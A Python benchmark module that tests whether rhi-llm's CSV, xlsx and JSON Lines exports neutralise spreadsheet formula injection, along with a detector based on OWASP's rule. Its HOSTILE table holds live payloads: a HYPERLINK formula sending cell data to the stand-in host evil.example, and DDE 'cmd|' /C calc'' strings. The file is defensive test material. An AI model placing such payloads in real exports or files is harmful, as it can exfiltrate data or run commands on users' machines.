"""Formula injection: does any exported cell run as a formula when a spreadsheet opens it?

Letters whose words are hostile: every text a letter or a model or a reviewer can put in an
export (the free-text answer, the quotes, the file path, the council's name and reference, a
flag's message, a reviewer's correction, name and note) starts like a spreadsheet formula, in
every variant a spreadsheet runs (``=``, ``+``, ``-``, ``@``, behind leading spaces or a line
break, after a tab or a carriage return) and one that already starts with an apostrophe. The
same letters carry figures: a count, a percentage and a negative number, which must stay
numbers.

Each letter goes into every export a user can open in a spreadsheet: the wide and the long
dataset as CSV and xlsx, extract's CSV and the review sheet; JSON Lines are checked to keep
the text exactly. Per export it counts the cells a spreadsheet would run as a formula (the
target: none; a CSV cell by OWASP's rule, read here independently of rhi-llm's own escaping;
an xlsx cell by its type, and the sheet's XML holding no formula element), the figures written
as plain numbers, and the hostile texts read back exactly (a CSV cell with the one escaping
apostrophe taken off; xlsx and JSON Lines as they are).

    python -m benchmarks.exports [--json]
"""

from __future__ import annotations

import csv
import io
import json
import sys
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

from rhi_llm.core.cells import unprotect
from rhi_llm.core.records import (
    LetterRef,
    OutputField,
    OutputRow,
    Provenance,
    ReviewDecision,
)
from rhi_llm.core.types import Flag
from rhi_llm.export import write_csv, write_export
from rhi_llm.review import ReviewItem
from rhi_llm.review_csv import write_review_csv

if TYPE_CHECKING:
    from benchmarks.reliability import Row

HOSTILE: dict[str, str] = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"see the letter")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "leading spaces": "   =1+1",
    "line break": "\n=1+1",
    "tab": "\t=1+1",
    "CR": "\r=1+1",
    "apostrophe": "'=1+1",
}
"""Each variant's text, put in every place a letter's words reach."""

NUMBERS = {"missing_incidents": -3, "rhi_completed": 12, "rhi_offered": 12.5}
"""The figures every hostile letter also carries: they must stay numbers."""


# --------------------------------------------------------------------------------------------
# The hostile letters
# --------------------------------------------------------------------------------------------


def sha_of(index: int) -> str:
    return f"{index + 1:064x}"


def hostile_row(index: int, text: str) -> OutputRow:
    numbers = {
        field_id: OutputField(
            value=value,
            unit="percent" if isinstance(value, float) else "count",
            of="missing_incidents" if isinstance(value, float) else None,
            status="answered",
            quote=text,
            verdict="flagged",
            flags=[Flag(code="hostile", message=text)],
        )
        for field_id, value in NUMBERS.items()
    }
    return OutputRow(
        letter=LetterRef(path=text, sha256=sha_of(index), format="txt", pages=1),
        questionnaire="rhi-2024",
        council=text,
        reference=text,
        fields={
            **numbers,
            "comments": OutputField(value=text, status="answered", quote=text, verdict="flagged"),
        },
        provenance=Provenance(backend="rules", schema_version="1"),
    )


def hostile_decision(index: int, text: str) -> ReviewDecision:
    """A reviewer's correction of the free-text answer: new value, name and note all hostile
    (the review commands refuse control characters in names now; older stores may hold them)."""
    return ReviewDecision(
        letter_sha256=sha_of(index),
        letter_path=text,
        field="comments",
        action="correct",
        value=text,
        status="answered",
        reviewer=text,
        decided_at="2026-01-02T10:00:00Z",
        note=text,
    )


def hostile_letters() -> tuple[list[OutputRow], dict[tuple[str, str], ReviewDecision]]:
    rows, decisions = [], {}
    for index, text in enumerate(HOSTILE.values()):
        rows.append(hostile_row(index, text))
        decisions[(sha_of(index), "comments")] = hostile_decision(index, text)
    return rows, decisions


# --------------------------------------------------------------------------------------------
# What a spreadsheet runs (our own reading of OWASP's rule, not rhi-llm's code)
# --------------------------------------------------------------------------------------------


def plain_number(text: str) -> bool:
    try:
        float(text.replace(",", "").removesuffix("%"))
    except ValueError:
        return False
    return True


def runs_in_a_spreadsheet(cell: str) -> bool:
    """A CSV cell a spreadsheet would take for a formula."""
    if cell.startswith(("\t", "\r")):
        return True
    body = cell.lstrip()
    return body.startswith(("=", "+", "-", "@")) and not plain_number(body)


# --------------------------------------------------------------------------------------------
# Counting one export
# --------------------------------------------------------------------------------------------


@dataclass
class ExportCount:
    """What one export holds: its cells, those a spreadsheet runs, and the planted figures
    and texts that came back as planted."""

    cells: int = 0
    formula_cells: int = 0
    numbers: int = 0
    numbers_numeric: int = 0
    texts: int = 0
    texts_exact: int = 0
    examples: list[str] = field(default_factory=list)  # formula cells, as written

    def add(self, other: ExportCount) -> None:
        for name in (
            "cells",
            "formula_cells",
            "numbers",
            "numbers_numeric",
            "texts",
            "texts_exact",
        ):
            setattr(self, name, getattr(self, name) + getattr(other, name))
        self.examples += other.examples[: 5 - len(self.examples)]


Table = list[dict[str, Any]]  # one dict per row: column -> cell as read back
Expect = Callable[[dict[str, Any]], Iterator[tuple[str, object]]]
"""For one row read back: (column, what it must hold) of every planted cell in it."""


def text_of(sha: str) -> str:
    return list(HOSTILE.values())[int(sha, 16) - 1]


def wide_expected(row: dict[str, Any]) -> Iterator[tuple[str, object]]:
    text = text_of(str(row["sha256"]))
    for column in ("path", "council", "reference", "comments"):
        yield column, text
    yield from NUMBERS.items()


def long_expected(row: dict[str, Any]) -> Iterator[tuple[str, object]]:
    text = text_of(str(row["sha256"]))
    yield "path", text
    yield "council", text
    yield "quote", text
    if row["field"] == "comments":
        yield from (("value", text), ("extracted_value", text))
        yield from (("reviewer", text), ("review_note", text))
    elif row["field"] in NUMBERS:
        yield "value", NUMBERS[str(row["field"])]


def extract_expected(row: dict[str, Any]) -> Iterator[tuple[str, object]]:
    """extract's CSV: the wide shape without review decisions (the extraction's own text)."""
    yield from wide_expected(row)


def no_expectations(_row: dict[str, Any]) -> Iterator[tuple[str, object]]:
    """The review sheet writes texts on one line (it squashes whitespace): only its formula
    cells are counted."""
    return iter(())


def count_table(table: Table, expect: Expect) -> ExportCount:
    """The cells of a table read back, and how many planted texts and figures came back as
    planted (its formula cells are counted from the file, by its kind)."""
    count = ExportCount()
    for row in table:
        count.cells += len(row)
        for column, wanted in expect(row):
            found = row.get(column)
            if isinstance(wanted, str):
                count.texts += 1
                count.texts_exact += found == wanted
            else:
                count.numbers += 1
                count.numbers_numeric += isinstance(found, int | float) and found == wanted
    return count


# --------------------------------------------------------------------------------------------
# Reading each kind of file back
# --------------------------------------------------------------------------------------------


def csv_table(text: str) -> tuple[Table, list[str]]:
    """The rows (escaping apostrophe off, plain numbers as numbers) and every raw cell."""
    reader = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    rows, raw = [], []
    for record in reader:
        raw += list(record.values())
        rows.append({column: csv_value(cell) for column, cell in record.items()})
    return rows, raw


def csv_value(cell: str) -> object:
    """A cell as a careful reader takes it: a plain number (no apostrophe) as a number, a
    text with the one escaping apostrophe off."""
    if cell and plain_number(cell) and cell.strip() == cell:
        number = float(cell.replace(",", "").removesuffix("%"))
        return int(number) if number.is_integer() and "." not in cell else number
    return unprotect(cell)


def count_csv(text: str, expect: Expect) -> ExportCount:
    rows, raw = csv_table(text)
    count = count_table(rows, expect)
    running = [cell for cell in raw if runs_in_a_spreadsheet(cell)]
    count.formula_cells = len(running)
    count.examples = [repr(cell) for cell in running[:5]]
    return count


def count_xlsx(path: Path, expect: Expect) -> ExportCount:
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    cells = list(sheet.iter_rows())
    header = [str(c.value) for c in cells[0]]
    rows = [{name: c.value for name, c in zip(header, row, strict=True)} for row in cells[1:]]
    count = count_table(rows, expect)
    formulas = [c for row in cells for c in row if c.data_type == "f"]
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    count.formula_cells = len(formulas) + xml.count("<f>") + xml.count("<f ")
    count.examples = [repr(c.value) for c in formulas[:5]]
    return count


def count_jsonl(path: Path, long: bool) -> ExportCount:
    """JSON Lines keep every text exactly (no escaping: JSON is not run by a spreadsheet)."""
    objects = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    if long:
        return count_table(objects, long_expected)
    flat = [
        {
            "sha256": o["letter"]["sha256"],
            "path": o["letter"]["path"],
            "council": o["council"],
            "reference": o["reference"],
            "comments": o["published"]["comments"]["value"],
            **{f: o["published"][f]["value"] for f in NUMBERS},
        }
        for o in objects
    ]
    return count_table(flat, wide_expected)


# --------------------------------------------------------------------------------------------
# The measurement
# --------------------------------------------------------------------------------------------


@dataclass
class ExportsResult:
    variants: list[str]
    letters: int
    by_export: dict[str, ExportCount]

    @property
    def total(self) -> ExportCount:
        total = ExportCount()
        for count in self.by_export.values():
            total.add(count)
        return total

    def as_json(self) -> dict[str, Any]:
        total = self.total
        return {
            "variants": self.variants,
            "letters": self.letters,
            "cells": total.cells,
            "formula_cells": total.formula_cells,
            "numbers": total.numbers,
            "numbers_numeric": total.numbers_numeric,
            "texts": total.texts,
            "texts_exact": total.texts_exact,
            "by_export": {name: vars(count) for name, count in self.by_export.items()},
        }


def export_text(rows: list[OutputRow], decisions: dict[Any, ReviewDecision], folder: Path,
                name: str, *, long: bool) -> str:  # fmt: skip
    out = folder / name
    write_export(rows, decisions, out, fmt="csv", long=long)
    return out.read_bytes().decode("utf-8")  # as written: a CR in a cell stays a CR


def review_sheet(rows: list[OutputRow], decisions: dict[Any, ReviewDecision]) -> str:
    items = [
        ReviewItem(row, field_id, found, decisions.get((row.letter.sha256, field_id)), None)
        for row in rows
        for field_id, found in row.fields.items()
    ]
    handle = io.StringIO(newline="")
    write_review_csv(items, handle)
    return handle.getvalue()


def run() -> ExportsResult:
    rows, decisions = hostile_letters()
    counts: dict[str, ExportCount] = {}
    with tempfile.TemporaryDirectory(prefix="rhi-exports-") as name:
        folder = Path(name)
        for long, expect in ((False, wide_expected), (True, long_expected)):
            shape = "long" if long else "wide"
            text = export_text(rows, decisions, folder, f"{shape}.csv", long=long)
            counts[f"{shape} csv"] = count_csv(text, expect)
            xlsx = folder / f"{shape}.xlsx"
            write_export(rows, decisions, xlsx, fmt="xlsx", long=long)
            counts[f"{shape} xlsx"] = count_xlsx(xlsx, expect)
            jsonl = folder / f"{shape}.jsonl"
            write_export(rows, decisions, jsonl, fmt="jsonl", long=long)
            counts[f"{shape} jsonl"] = count_jsonl(jsonl, long)
    extracted = io.StringIO(newline="")
    write_csv(rows, extracted)
    counts["extract csv"] = count_csv(extracted.getvalue(), extract_expected)
    counts["review sheet"] = count_csv(review_sheet(rows, decisions), no_expectations)
    return ExportsResult(list(HOSTILE), len(rows), counts)


# --------------------------------------------------------------------------------------------
# Its part of `rhi-llm bench reliability`
# --------------------------------------------------------------------------------------------


def table_rows(figures: dict[str, Any]) -> list[Row]:
    from benchmarks.reliability import Row

    part = "exports"
    formulas, numbers, texts = (
        figures["formula_cells"],
        (figures["numbers_numeric"], figures["numbers"]),
        (figures["texts_exact"], figures["texts"]),
    )
    return [
        Row(part, "hostile letters", figures["letters"]),
        Row(part, "formula variants", len(figures["variants"])),
        Row(part, "exports checked", len(figures["by_export"])),
        Row(part, "cells written", figures["cells"]),
        Row(part, "cells a spreadsheet runs as formulas", formulas, "0", formulas == 0),
        Row(part, "figures kept numbers", f"{numbers[0]}/{numbers[1]}", "all",
            numbers[1] > 0 and numbers[0] == numbers[1]),
        Row(part, "hostile texts read back exactly", f"{texts[0]}/{texts[1]}", "all",
            texts[1] > 0 and texts[0] == texts[1]),
    ]  # fmt: skip


if __name__ == "__main__":
    figures = run().as_json()
    if "--json" in sys.argv:
        print(json.dumps(figures, indent=2))
    else:
        for export, count in figures["by_export"].items():
            print(f"{export:13} formula cells {count['formula_cells']:3}  numbers "
                  f"{count['numbers_numeric']}/{count['numbers']}  texts "
                  f"{count['texts_exact']}/{count['texts']}")  # fmt: skip
